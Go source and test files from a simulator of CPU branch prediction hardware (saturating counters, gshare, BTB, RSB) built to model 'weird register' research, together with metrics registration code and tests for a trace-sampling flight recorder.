	// still be populated with the documented fallbacks.
	if bi.Version == "" || bi.GoVersion == "" || bi.GitSHA == "" {
		t.Fatalf("build info has empty fields: %+v", bi)
	}
	if !strings.HasPrefix(bi.GoVersion, "go") {
		t.Errorf("go version %q does not look like a toolchain version", bi.GoVersion)
	}
}

func TestRegisterBuildInfo(t *testing.T) {
	reg := metrics.NewRegistry()
	bi := RegisterBuildInfo(reg)

	var b strings.Builder
	if err := reg.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	want := fmt.Sprintf(`uwm_build_info{version=%q,go_version=%q,git_sha=%q} 1`,
		bi.Version, bi.GoVersion, bi.GitSHA)
	if !strings.Contains(out, want) {
		t.Fatalf("exposition missing %s:\n%s", want, out)
	}

	// Nil registry: a no-op, not a panic.
	if nilBI := RegisterBuildInfo(nil); nilBI.GoVersion == "" {
		t.Error("nil-registry call lost the build identity")
	}
}

func TestSessionRegistryCarriesBuildInfo(t *testing.T) {
	sess, err := Start(Config{Metrics: true})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	sess.SetOutput(&b)
	if err := sess.Close(); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), MetricBuildInfo) {
		t.Fatalf("session exposition missing %s:\n%s", MetricBuildInfo, b.String())
	}
}
