package branch

import "uwm/internal/metrics"

// Metric series exported by the branch prediction unit.
const (
	MetricPredictions = "uwm_branch_predictions_total"
	MetricTraining    = "uwm_branch_training_total"
	MetricBTBLookups  = "uwm_btb_lookups_total"
	MetricBTBHits     = "uwm_btb_hits_total"
	MetricBTBUpdates  = "uwm_btb_updates_total"
	MetricRSBDepth    = "uwm_rsb_depth"
)

// RegisterMetrics exposes BPU traffic counters on reg as lazily read
// collector functions: the predictors keep counting plain uint64s on
// the hot path and the registry reads them only at scrape time. Any of
// dir, btb, rsb may be nil; a dir that does not implement StatsReporter
// is skipped.
func RegisterMetrics(reg *metrics.Registry, dir DirectionPredictor, btb *BTB, rsb *RSB) {
	if reg == nil {
		return
	}
	if sr, ok := dir.(StatsReporter); ok {
		reg.CounterFunc(MetricPredictions, "direction-predictor lookups",
			func() uint64 { return sr.Stats().Predictions })
		reg.CounterFunc(MetricTraining, "direction-predictor training updates",
			func() uint64 { return sr.Stats().TrainingOps })
	}
	if btb != nil {
		reg.CounterFunc(MetricBTBLookups, "branch target buffer lookups",
			func() uint64 { return btb.stats.Lookups })
		reg.CounterFunc(MetricBTBHits, "branch target buffer hits",
			func() uint64 { return btb.stats.Hits })
		reg.CounterFunc(MetricBTBUpdates, "branch target buffer target updates",
			func() uint64 { return btb.stats.Updates })
	}
	if rsb != nil {
		reg.GaugeFunc(MetricRSBDepth, "live return stack entries",
			func() float64 { return float64(rsb.Depth()) })
	}
}
