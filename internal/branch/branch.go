// Package branch models the branch prediction unit (BPU): a direction
// predictor built from 2-bit saturating counters (optionally gshare-style
// history hashing), a branch target buffer, and a return stack buffer.
//
// The BP-WR weird register of the paper is the trained state of one
// direction-predictor entry: training the branch "taken" stores a 0,
// training it "not taken" stores a 1 (because a not-taken prediction is
// what opens the speculative window over the gate body). The predictor's
// aliasing behaviour is faithful to small per-PC counter tables, which is
// what makes training from a separate code location possible.
package branch

import "uwm/internal/mem"

// Counter is a 2-bit saturating counter. States 0–1 predict not taken,
// 2–3 predict taken.
type Counter uint8

// Predict reports the counter's current prediction.
func (c Counter) Predict() bool { return c >= 2 }

// Update trains the counter toward the observed outcome.
func (c Counter) Update(taken bool) Counter {
	if taken {
		if c < 3 {
			return c + 1
		}
		return c
	}
	if c > 0 {
		return c - 1
	}
	return c
}

// DirectionPredictor predicts conditional branch directions.
type DirectionPredictor interface {
	// Predict returns the predicted direction for the branch at pc.
	Predict(pc mem.Addr) bool
	// Update trains the predictor with the resolved direction.
	Update(pc mem.Addr, taken bool)
	// Reset restores the power-on state (weakly not-taken).
	Reset()
}

// Stats counts direction-predictor traffic: lookups and training
// updates. Mispredict counts live in the CPU (which is the unit that
// compares predictions to outcomes).
type Stats struct {
	Predictions uint64
	TrainingOps uint64
}

// StatsReporter is implemented by predictors that count their traffic;
// both built-in predictors do.
type StatsReporter interface {
	Stats() Stats
}

// Bimodal is a per-PC table of 2-bit counters indexed by hashed PC, the
// classic direction predictor and the structure BranchScope-style weird
// registers manipulate.
type Bimodal struct {
	table []Counter
	stats Stats
}

// NewBimodal returns a Bimodal predictor with size entries (power of two
// recommended; size must be positive).
func NewBimodal(size int) *Bimodal {
	if size <= 0 {
		panic("branch: predictor size must be positive")
	}
	return &Bimodal{table: make([]Counter, size)}
}

func (b *Bimodal) index(pc mem.Addr) int {
	return int(uint64(pc) / 4 % uint64(len(b.table)))
}

// Predict implements DirectionPredictor.
func (b *Bimodal) Predict(pc mem.Addr) bool {
	b.stats.Predictions++
	return b.table[b.index(pc)].Predict()
}

// Update implements DirectionPredictor.
func (b *Bimodal) Update(pc mem.Addr, taken bool) {
	b.stats.TrainingOps++
	i := b.index(pc)
	b.table[i] = b.table[i].Update(taken)
}

// Stats returns lifetime traffic counters (not cleared by Reset).
func (b *Bimodal) Stats() Stats { return b.stats }

// Reset implements DirectionPredictor.
func (b *Bimodal) Reset() {
	for i := range b.table {
		b.table[i] = 0
	}
}

// Counter returns the raw 2-bit state for the branch at pc, exposed for
// tests that verify training semantics.
func (b *Bimodal) Counter(pc mem.Addr) Counter { return b.table[b.index(pc)] }

// GShare xors a global history register into the table index. It models
// the pattern-detecting behaviour the paper cites as a hazard: "when the
// WG code attempts to repeatedly mistrain a certain branch, the BPU
// quickly learns this pattern" (§4). The gshare ablation benchmarks show
// BP-gate accuracy degrading under history-based prediction.
type GShare struct {
	table   []Counter
	history uint64
	bits    uint
	stats   Stats
}

// NewGShare returns a GShare predictor with size entries and historyBits
// bits of global history.
func NewGShare(size int, historyBits uint) *GShare {
	if size <= 0 {
		panic("branch: predictor size must be positive")
	}
	return &GShare{table: make([]Counter, size), bits: historyBits}
}

func (g *GShare) index(pc mem.Addr) int {
	mask := (uint64(1) << g.bits) - 1
	return int((uint64(pc)/4 ^ (g.history & mask)) % uint64(len(g.table)))
}

// Predict implements DirectionPredictor.
func (g *GShare) Predict(pc mem.Addr) bool {
	g.stats.Predictions++
	return g.table[g.index(pc)].Predict()
}

// Update implements DirectionPredictor.
func (g *GShare) Update(pc mem.Addr, taken bool) {
	g.stats.TrainingOps++
	i := g.index(pc)
	g.table[i] = g.table[i].Update(taken)
	g.history <<= 1
	if taken {
		g.history |= 1
	}
}

// Stats returns lifetime traffic counters (not cleared by Reset).
func (g *GShare) Stats() Stats { return g.stats }

// Reset implements DirectionPredictor.
func (g *GShare) Reset() {
	for i := range g.table {
		g.table[i] = 0
	}
	g.history = 0
}

// BTB is a small direct-mapped branch target buffer. BTB-based weird
// registers (Table 1) store a bit as which target is cached for a jump:
// reading measures whether the prediction was correct.
type BTB struct {
	entries []btbEntry
	stats   BTBStats
}

// BTBStats counts target-buffer traffic.
type BTBStats struct {
	Lookups uint64
	Hits    uint64
	Updates uint64
}

type btbEntry struct {
	valid  bool
	pc     mem.Addr
	target mem.Addr
}

// NewBTB returns a BTB with size entries.
func NewBTB(size int) *BTB {
	if size <= 0 {
		panic("branch: BTB size must be positive")
	}
	return &BTB{entries: make([]btbEntry, size)}
}

func (b *BTB) index(pc mem.Addr) int {
	return int(uint64(pc) / 4 % uint64(len(b.entries)))
}

// Lookup returns the predicted target for the branch at pc, if any.
func (b *BTB) Lookup(pc mem.Addr) (mem.Addr, bool) {
	b.stats.Lookups++
	e := b.entries[b.index(pc)]
	if e.valid && e.pc == pc {
		b.stats.Hits++
		return e.target, true
	}
	return 0, false
}

// Update records the resolved target of the branch at pc.
func (b *BTB) Update(pc, target mem.Addr) {
	b.stats.Updates++
	b.entries[b.index(pc)] = btbEntry{valid: true, pc: pc, target: target}
}

// Stats returns lifetime traffic counters (not cleared by Reset).
func (b *BTB) Stats() BTBStats { return b.stats }

// Reset invalidates all entries.
func (b *BTB) Reset() {
	for i := range b.entries {
		b.entries[i] = btbEntry{}
	}
}

// RSB is a fixed-depth return stack buffer; provided for model
// completeness (call/return prediction) though the paper's gates do not
// exploit it.
type RSB struct {
	stack []mem.Addr
	depth int
}

// NewRSB returns an RSB with the given depth.
func NewRSB(depth int) *RSB {
	if depth <= 0 {
		panic("branch: RSB depth must be positive")
	}
	return &RSB{depth: depth}
}

// Push records a call's return address, dropping the oldest entry on
// overflow (as hardware does).
func (r *RSB) Push(ret mem.Addr) {
	if len(r.stack) == r.depth {
		copy(r.stack, r.stack[1:])
		r.stack = r.stack[:r.depth-1]
	}
	r.stack = append(r.stack, ret)
}

// Pop predicts the return address for a ret, reporting false on
// underflow.
func (r *RSB) Pop() (mem.Addr, bool) {
	if len(r.stack) == 0 {
		return 0, false
	}
	v := r.stack[len(r.stack)-1]
	r.stack = r.stack[:len(r.stack)-1]
	return v, true
}

// Depth returns the number of live entries.
func (r *RSB) Depth() int { return len(r.stack) }

// Reset empties the stack.
func (r *RSB) Reset() { r.stack = r.stack[:0] }
