package branch

import (
	"testing"
	"testing/quick"

	"uwm/internal/mem"
)

func TestCounterSaturation(t *testing.T) {
	c := Counter(0)
	for i := 0; i < 10; i++ {
		c = c.Update(true)
	}
	if c != 3 || !c.Predict() {
		t.Errorf("counter = %d after taken training", c)
	}
	for i := 0; i < 10; i++ {
		c = c.Update(false)
	}
	if c != 0 || c.Predict() {
		t.Errorf("counter = %d after not-taken training", c)
	}
}

func TestCounterHysteresis(t *testing.T) {
	// From strongly taken, one not-taken outcome must not flip the
	// prediction — the 2-bit property gates rely on for stability.
	c := Counter(3)
	c = c.Update(false)
	if !c.Predict() {
		t.Error("single opposite outcome flipped a saturated counter")
	}
	c = c.Update(false)
	if c.Predict() {
		t.Error("two opposite outcomes should flip the prediction")
	}
}

func TestBimodalTrainPredict(t *testing.T) {
	b := NewBimodal(64)
	pc := mem.Addr(0x400)
	if b.Predict(pc) {
		t.Error("power-on prediction should be not-taken")
	}
	b.Update(pc, true)
	b.Update(pc, true)
	if !b.Predict(pc) {
		t.Error("two taken outcomes should train the entry")
	}
	b.Reset()
	if b.Predict(pc) {
		t.Error("reset did not clear training")
	}
}

func TestBimodalAliasing(t *testing.T) {
	b := NewBimodal(16)
	pc := mem.Addr(0x100)
	alias := pc + 16*4 // same index: table indexes by pc/4 mod size
	b.Update(pc, true)
	b.Update(pc, true)
	if !b.Predict(alias) {
		t.Error("aliased PC did not share the entry — training-through-alias depends on this")
	}
	distinct := pc + 4
	if b.Predict(distinct) {
		t.Error("adjacent PC unexpectedly aliased")
	}
}

func TestGShareHistorySensitivity(t *testing.T) {
	g := NewGShare(256, 8)
	pc := mem.Addr(0x800)
	// Train under one history, query under another: predictions may
	// differ because the index moves with history.
	g.Update(pc, true)
	g.Update(pc, true)
	idx1 := g.index(pc)
	g.Update(pc+4, true) // shift history
	idx2 := g.index(pc)
	if idx1 == idx2 {
		t.Skip("histories collided for this PC; acceptable")
	}
	// The entry under the new history is untrained.
	if g.Predict(pc) {
		t.Error("gshare predicted taken from an untrained slot")
	}
}

func TestGShareReset(t *testing.T) {
	g := NewGShare(64, 6)
	g.Update(0x40, true)
	g.Update(0x40, true)
	g.Reset()
	if g.Predict(0x40) {
		t.Error("reset did not clear gshare")
	}
}

func TestBTBInstallLookup(t *testing.T) {
	b := NewBTB(128)
	if _, ok := b.Lookup(0x1000); ok {
		t.Error("hit in empty BTB")
	}
	b.Update(0x1000, 0x2000)
	if tgt, ok := b.Lookup(0x1000); !ok || tgt != 0x2000 {
		t.Errorf("lookup = %#x, %v", uint64(tgt), ok)
	}
	// A different PC that aliases the same entry misses on tag check.
	alias := mem.Addr(0x1000 + 128*4)
	if _, ok := b.Lookup(alias); ok {
		t.Error("aliased PC hit despite tag mismatch")
	}
	// Installing the alias replaces the entry (direct-mapped).
	b.Update(alias, 0x3000)
	if _, ok := b.Lookup(0x1000); ok {
		t.Error("original entry survived alias install")
	}
	b.Reset()
	if _, ok := b.Lookup(alias); ok {
		t.Error("reset did not clear BTB")
	}
}

func TestRSBLIFO(t *testing.T) {
	r := NewRSB(4)
	for i := 1; i <= 3; i++ {
		r.Push(mem.Addr(i * 0x10))
	}
	for i := 3; i >= 1; i-- {
		got, ok := r.Pop()
		if !ok || got != mem.Addr(i*0x10) {
			t.Fatalf("pop %d = %#x, %v", i, uint64(got), ok)
		}
	}
	if _, ok := r.Pop(); ok {
		t.Error("pop from empty RSB succeeded")
	}
}

func TestRSBOverflowDropsOldest(t *testing.T) {
	r := NewRSB(2)
	r.Push(1)
	r.Push(2)
	r.Push(3) // drops 1
	if r.Depth() != 2 {
		t.Fatalf("depth = %d", r.Depth())
	}
	if v, _ := r.Pop(); v != 3 {
		t.Errorf("top = %d", v)
	}
	if v, _ := r.Pop(); v != 2 {
		t.Errorf("second = %d", v)
	}
}

// TestCounterNeverLeavesRange is a property test on the 2-bit counter.
func TestCounterNeverLeavesRange(t *testing.T) {
	f := func(outcomes []bool) bool {
		c := Counter(1)
		for _, o := range outcomes {
			c = c.Update(o)
			if c > 3 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// TestTrainingConvergesProperty: after three identical outcomes the
// prediction always matches, from any start state.
func TestTrainingConvergesProperty(t *testing.T) {
	f := func(start uint8, dir bool) bool {
		c := Counter(start % 4)
		for i := 0; i < 3; i++ {
			c = c.Update(dir)
		}
		return c.Predict() == dir
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestConstructorValidation(t *testing.T) {
	for _, f := range []func(){
		func() { NewBimodal(0) },
		func() { NewGShare(0, 4) },
		func() { NewBTB(0) },
		func() { NewRSB(0) },
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Error("constructor accepted invalid size")
				}
			}()
			f()
		}()
	}
}
