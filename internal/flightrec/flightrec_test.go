package flightrec

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"uwm/internal/metrics"
	"uwm/internal/trace"
)

// finish runs one synthetic job through the recorder: open a capture,
// emit n events into it, and apply the sampling decision.
func finish(r *Recorder, id, reqID, typ string, o Outcome, n int) Decision {
	c := r.Begin(Meta{JobID: id, RequestID: reqID, Type: typ})
	for i := 0; i < n; i++ {
		c.Emit(trace.Event{Kind: trace.KindAnnotation, Cycle: int64(i), Text: "e"})
	}
	return r.Finish(c, o)
}

func healthy(latency time.Duration) Outcome {
	return Outcome{Status: "done", Latency: latency}
}

func TestDecisionPriority(t *testing.T) {
	r := New(Config{HeadRate: 1})
	cases := []struct {
		name   string
		o      Outcome
		reason string
		kept   bool
		pinned bool
	}{
		// Error outranks every other signal, even when they co-occur.
		{"error", Outcome{Status: "failed", Error: "boom", Disagreement: true, Retries: 2, Drifting: true}, ReasonError, true, true},
		{"canceled", Outcome{Status: "canceled"}, ReasonError, true, true},
		{"disagreement", Outcome{Status: "done", Disagreement: true, Retries: 1, Drifting: true}, ReasonDisagreement, true, false},
		{"retry", Outcome{Status: "done", Retries: 1, Drifting: true}, ReasonRetry, true, false},
		{"drift", Outcome{Status: "done", Drifting: true}, ReasonDrift, true, false},
		{"head", Outcome{Status: "done"}, ReasonHead, true, false},
	}
	for i, tc := range cases {
		d := finish(r, fmt.Sprintf("job-%d", i), "", "gate", tc.o, 3)
		if d.Kept != tc.kept || d.Reason != tc.reason || d.Pinned != tc.pinned {
			t.Errorf("%s: got %+v, want kept=%v reason=%s pinned=%v", tc.name, d, tc.kept, tc.reason, tc.pinned)
		}
	}
}

func TestHeadRateZeroRetainsNothing(t *testing.T) {
	r := New(Config{}) // zero HeadRate: healthy traffic is never kept
	for i := 0; i < 50; i++ {
		d := finish(r, fmt.Sprintf("job-%d", i), fmt.Sprintf("req-%d", i), "gate", healthy(time.Millisecond), 4)
		if d.Kept {
			t.Fatalf("job-%d kept (%s) with HeadRate 0", i, d.Reason)
		}
	}
	if idx := r.Index(); len(idx) != 0 {
		t.Fatalf("index holds %d entries, want 0", len(idx))
	}
	if _, ok := r.Get("job-0"); ok {
		t.Fatal("Get found a trace that should have been sampled out")
	}
}

func TestHeadRateOneKeepsEverything(t *testing.T) {
	r := New(Config{HeadRate: 1})
	for i := 0; i < 10; i++ {
		if d := finish(r, fmt.Sprintf("job-%d", i), "", "gate", healthy(time.Millisecond), 2); !d.Kept || d.Reason != ReasonHead {
			t.Fatalf("job-%d: %+v, want kept head sample", i, d)
		}
	}
	if idx := r.Index(); len(idx) != 10 {
		t.Fatalf("index holds %d entries, want 10", len(idx))
	}
}

func TestHeadKeepDeterministic(t *testing.T) {
	for i := 0; i < 100; i++ {
		id := fmt.Sprintf("job-%d", i)
		if headKeep(id, 0.5) != headKeep(id, 0.5) {
			t.Fatalf("headKeep(%q) is not deterministic", id)
		}
	}
	kept := 0
	for i := 0; i < 1000; i++ {
		if headKeep(fmt.Sprintf("job-%d", i), 0.5) {
			kept++
		}
	}
	if kept < 350 || kept > 650 {
		t.Fatalf("rate 0.5 kept %d/1000 — hash badly skewed", kept)
	}
}

func TestLRUEviction(t *testing.T) {
	reg := metrics.NewRegistry()
	r := New(Config{MaxKept: 3, HeadRate: 1, Metrics: reg})
	for i := 0; i < 5; i++ {
		finish(r, fmt.Sprintf("job-%d", i), fmt.Sprintf("req-%d", i), "gate", healthy(time.Millisecond), 2)
	}
	if idx := r.Index(); len(idx) != 3 {
		t.Fatalf("index holds %d entries, want 3", len(idx))
	}
	for _, gone := range []string{"job-0", "job-1", "req-0", "req-1"} {
		if _, ok := r.Get(gone); ok {
			t.Errorf("%s still resolvable after eviction", gone)
		}
	}
	for _, there := range []string{"job-2", "job-3", "job-4", "req-4"} {
		if _, ok := r.Get(there); !ok {
			t.Errorf("%s missing from the LRU", there)
		}
	}
	var b strings.Builder
	if err := reg.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `uwm_flightrec_evictions_total{ring="kept"} 2`) {
		t.Errorf("eviction counter missing or wrong:\n%s", b.String())
	}
}

func TestErrorRingPinnedAgainstHealthyTraffic(t *testing.T) {
	r := New(Config{MaxKept: 2, ErrorRing: 2, HeadRate: 1})
	finish(r, "err-0", "", "gate", Outcome{Status: "failed", Error: "gate misfired"}, 2)
	finish(r, "err-1", "", "gate", Outcome{Status: "failed", Error: "gate misfired"}, 2)

	// A burst of healthy traffic far beyond both ring capacities.
	for i := 0; i < 40; i++ {
		finish(r, fmt.Sprintf("job-%d", i), "", "gate", healthy(time.Millisecond), 2)
	}
	for _, id := range []string{"err-0", "err-1"} {
		kt, ok := r.Get(id)
		if !ok {
			t.Fatalf("pinned error %s evicted by healthy traffic", id)
		}
		if !kt.Entry.Pinned || kt.Entry.Reason != ReasonError {
			t.Fatalf("%s: %+v, want pinned error", id, kt.Entry)
		}
	}

	// Only a newer error may rotate the ring.
	finish(r, "err-2", "", "gate", Outcome{Status: "failed", Error: "again"}, 2)
	if _, ok := r.Get("err-0"); ok {
		t.Fatal("err-0 should have been rotated out by err-2")
	}
	for _, id := range []string{"err-1", "err-2"} {
		if _, ok := r.Get(id); !ok {
			t.Fatalf("%s missing from the error ring", id)
		}
	}
}

func TestBoundedCaptureCountsDrops(t *testing.T) {
	reg := metrics.NewRegistry()
	r := New(Config{MaxEventsPerTrace: 8, HeadRate: 1, Metrics: reg})
	d := finish(r, "job-0", "", "gate", healthy(time.Millisecond), 20)
	if !d.Kept {
		t.Fatalf("decision %+v, want kept", d)
	}
	kt, ok := r.Get("job-0")
	if !ok {
		t.Fatal("trace not kept")
	}
	if len(kt.Events) != 8 {
		t.Fatalf("kept %d events, want the 8 newest", len(kt.Events))
	}
	// The ring overwrites oldest-first, so the survivors are the tail.
	if first := kt.Events[0].Cycle; first != 12 {
		t.Fatalf("oldest surviving event at cycle %d, want 12", first)
	}
	if kt.Entry.DroppedEvents != 12 {
		t.Fatalf("entry records %d dropped events, want 12", kt.Entry.DroppedEvents)
	}
	var b strings.Builder
	if err := reg.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "uwm_trace_dropped_events_total 12") {
		t.Errorf("dropped-events counter missing or wrong:\n%s", b.String())
	}
}

func TestSlowQuantileKeep(t *testing.T) {
	r := New(Config{LatencyQuantile: 0.5, LatencyMinSamples: 4}) // HeadRate 0
	// Build per-type history; too little of it for the slow rule to fire.
	for i := 0; i < 4; i++ {
		if d := finish(r, fmt.Sprintf("warm-%d", i), "", "gate", healthy(10*time.Millisecond), 1); d.Kept {
			t.Fatalf("warm-%d kept (%s) before history filled", i, d.Reason)
		}
	}
	// Far above the median of the history: kept as slow.
	if d := finish(r, "slow-0", "", "gate", healthy(5*time.Second), 1); !d.Kept || d.Reason != ReasonSlow {
		t.Fatalf("slow job decision %+v, want kept slow", d)
	}
	// A different type has no history — never slow.
	if d := finish(r, "other-0", "", "sha1", healthy(5*time.Second), 1); d.Kept {
		t.Fatalf("job of fresh type kept (%s) without history", d.Reason)
	}
	// Disabled rule never fires.
	r2 := New(Config{LatencyQuantile: -1, LatencyMinSamples: 1})
	for i := 0; i < 8; i++ {
		finish(r2, fmt.Sprintf("w-%d", i), "", "gate", healthy(time.Millisecond), 1)
	}
	if d := finish(r2, "s", "", "gate", healthy(time.Hour), 1); d.Kept {
		t.Fatalf("slow rule fired (%s) though disabled", d.Reason)
	}
}

func TestDumpWritesTracesAndIndex(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "postmortem")
	r := New(Config{HeadRate: 1, PostmortemDir: dir})
	finish(r, "job-0", "req-0", "gate", healthy(time.Millisecond), 3)
	finish(r, "job-1", "", "gate", Outcome{Status: "failed", Error: "boom"}, 2)

	n, err := r.Postmortem()
	if err != nil {
		t.Fatal(err)
	}
	if n != 2 {
		t.Fatalf("dumped %d traces, want 2", n)
	}
	for id, events := range map[string]int{"job-0": 3, "job-1": 2} {
		b, err := os.ReadFile(filepath.Join(dir, id+".jsonl"))
		if err != nil {
			t.Fatal(err)
		}
		if lines := strings.Count(string(b), "\n"); lines != events {
			t.Errorf("%s.jsonl holds %d lines, want %d", id, lines, events)
		}
	}
	b, err := os.ReadFile(filepath.Join(dir, "index.json"))
	if err != nil {
		t.Fatal(err)
	}
	var entries []Entry
	if err := json.Unmarshal(b, &entries); err != nil {
		t.Fatalf("index.json: %v", err)
	}
	if len(entries) != 2 || entries[0].Seq < entries[1].Seq {
		t.Fatalf("index entries %+v, want 2 newest-first", entries)
	}
}

func TestSubscribeDeliversAndCancelReleases(t *testing.T) {
	r := New(Config{}) // decisions broadcast even when dropped
	ch, cancel := r.Subscribe()
	if r.Subscribers() != 1 {
		t.Fatalf("%d subscribers, want 1", r.Subscribers())
	}
	finish(r, "job-0", "req-0", "gate", healthy(time.Millisecond), 1)
	select {
	case e := <-ch:
		if e.ID != "job-0" || e.Kept || e.Reason != ReasonSampledOut {
			t.Fatalf("entry %+v, want dropped job-0", e)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no entry delivered")
	}
	// A stalled subscriber's full buffer must not block workers.
	for i := 0; i < 64; i++ {
		finish(r, fmt.Sprintf("flood-%d", i), "", "gate", healthy(time.Millisecond), 1)
	}
	cancel()
	cancel() // idempotent
	if r.Subscribers() != 0 {
		t.Fatalf("%d subscribers after cancel, want 0", r.Subscribers())
	}
	if _, open := <-ch; open {
		// Drain buffered entries until close.
		for range ch {
		}
	}
}

func TestNilRecorderIsInert(t *testing.T) {
	var r *Recorder
	if c := r.Begin(Meta{JobID: "x"}); c != nil {
		t.Fatal("nil recorder returned a capture")
	}
	if d := r.Finish(nil, Outcome{}); d.Kept {
		t.Fatal("nil recorder kept a trace")
	}
	if _, ok := r.Get("x"); ok {
		t.Fatal("nil recorder resolved an id")
	}
	if idx := r.Index(); idx != nil {
		t.Fatal("nil recorder returned an index")
	}
	if n, err := r.Postmortem(); n != 0 || err != nil {
		t.Fatalf("nil recorder postmortem: %d, %v", n, err)
	}
	var tap *Tap
	tap.Set(nil) // must not panic
	if tap.Enabled() {
		t.Fatal("nil tap enabled")
	}
}

func TestTapRoutesOnlyWhileSet(t *testing.T) {
	r := New(Config{HeadRate: 1})
	tap := NewTap()
	tap.Emit(trace.Event{Kind: trace.KindAnnotation, Text: "before"}) // no capture: dropped
	c := r.Begin(Meta{JobID: "job-0", Type: "gate"})
	tap.Set(c)
	if !tap.Enabled() {
		t.Fatal("tap with capture reports disabled")
	}
	tap.Emit(trace.Event{Kind: trace.KindAnnotation, Text: "during"})
	tap.Set(nil)
	tap.Emit(trace.Event{Kind: trace.KindAnnotation, Text: "after"})
	r.Finish(c, healthy(time.Millisecond))
	kt, ok := r.Get("job-0")
	if !ok {
		t.Fatal("trace not kept")
	}
	if len(kt.Events) != 1 || kt.Events[0].Text != "during" {
		t.Fatalf("capture holds %v, want exactly the in-window event", kt.Events)
	}
}
